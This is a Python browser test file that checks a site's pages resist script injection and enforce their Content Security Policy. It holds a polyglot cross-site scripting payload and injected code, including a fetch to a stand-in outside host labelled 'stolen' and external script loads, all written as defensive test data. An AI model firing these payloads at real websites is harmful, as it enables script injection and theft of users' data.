# SPDX-FileCopyrightText: 2026 CERN
# SPDX-License-Identifier: Apache-2.0

"""In a real browser: no address runs a script, nothing breaks the policy, and it is in force."""

from __future__ import annotations

import re
from collections.abc import Callable
from urllib.parse import urlencode

import pytest
from pages import Server, Visit, wait_until

from ospo_widgets.pages import APPS, PAGES

pytestmark = pytest.mark.browser

WATCH = """
window.ran = [];
window.pwned = (how) => window.ran.push(how);
window.violations = [];
addEventListener('securitypolicyviolation', (event) => {
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
});
"""
PAYLOAD = (
    "\"><img src=x onerror=pwned(1)><script>pwned(2)</script>'><svg/onload=pwned(3)>"
    "</style></script><iframe srcdoc='<script>top.pwned(4)</script>'></textarea>"
    "javascript:pwned(5) {{constructor.constructor('pwned(6)')()}} ${pwned(7)}"
)
NAMES = ("q", "s", "project", "start", "in", "into", "use", "part", "kind", "tab", "row", "view",
         "practice", "activity", "check", "subject", "number", "page", "catalogue", "git", "lang",
         "theme", "repo", "name", "kept", "family", "department", "period", "x")  # fmt: skip
QUERY = urlencode(dict.fromkeys(NAMES, PAYLOAD))
INJECT = """
() => {
  const script = document.createElement('script');
  script.textContent = 'pwned("inline script")';
  document.body.append(script);
  const box = document.createElement('div');
  box.innerHTML = `<img src="data:," onerror="pwned('handler')">
    <a id="odd" href="javascript:pwned('address')">x</a>
    <form id="form" action="https://elsewhere.invalid/"><input name="a"></form>
    <iframe srcdoc="<script>parent.pwned('frame')</` + `script>"></iframe>
    <object data="/help"></object><base href="https://elsewhere.invalid/">`;
  document.body.append(box);
  document.getElementById('odd').click();
  document.getElementById('form').submit();
  for (const address of ['https://elsewhere.invalid/x.js', 'data:text/javascript,pwned("data")']) {
    const other = document.createElement('script');
    other.src = address;
    document.body.append(other);
  }
  fetch('https://elsewhere.invalid/?stolen').catch(() => null);
  setTimeout(() => eval('pwned("eval")'), 0);  // later: what a debugger says itself may be run
}
"""
REFUSED = ("script-src-elem inline", "script-src-attr inline", "script-src-elem https://elsewhere",
           "script-src-elem data", "connect-src https://elsewhere", "form-action",
           "base-uri", "script-src eval", "object-src")  # fmt: skip


def watched(visit: Callable[..., Visit]) -> Visit:
    made = visit()
    made.page.add_init_script(WATCH)
    return made


def test_no_parameter_of_any_page_runs_a_script_or_breaks_the_policy(
    server: Server, visit: Callable[..., Visit]
) -> None:
    made = watched(visit)
    apps = [name for name in APPS if name != "home"]
    static = [server.url, *(f"{server.url}{page}" for page in PAGES), server.app("home")]
    for address in (*static, f"{server.url}none", *map(server.app, apps)):
        made.page.goto(f"{address}?{QUERY}")
        made.page.locator("#ospo-opening").wait_for(state="detached")
        made.page.get_by_role("heading", level=1).first.wait_for()
        assert made.page.evaluate("window.ran") == [], address
        assert made.page.evaluate("window.violations") == [], address
    assert made.outside(server) == []


@pytest.mark.parametrize("app", ["home", "compatibility"])
def test_what_is_injected_into_a_page_does_not_run(
    server: Server, visit: Callable[..., Visit], app: str
) -> None:
    made = watched(visit)
    made.page.goto(server.app(app))
    made.page.locator("#ospo-opening").wait_for(state="detached")
    made.page.get_by_role("heading", level=1).first.wait_for()
    here = made.page.url
    made.page.evaluate(INJECT)
    seen = "(wanted) => wanted.every((w) => window.violations.some((v) => v.startsWith(w)))"
    try:
        wait_until(made.page, seen, list(REFUSED))
    finally:
        found = made.page.evaluate("window.violations")
    assert made.page.evaluate("window.ran") == [], found
    assert re.sub(r"\?.*", "", made.page.url) == re.sub(r"\?.*", "", here)
    assert made.page.evaluate("document.baseURI").startswith(server.url)
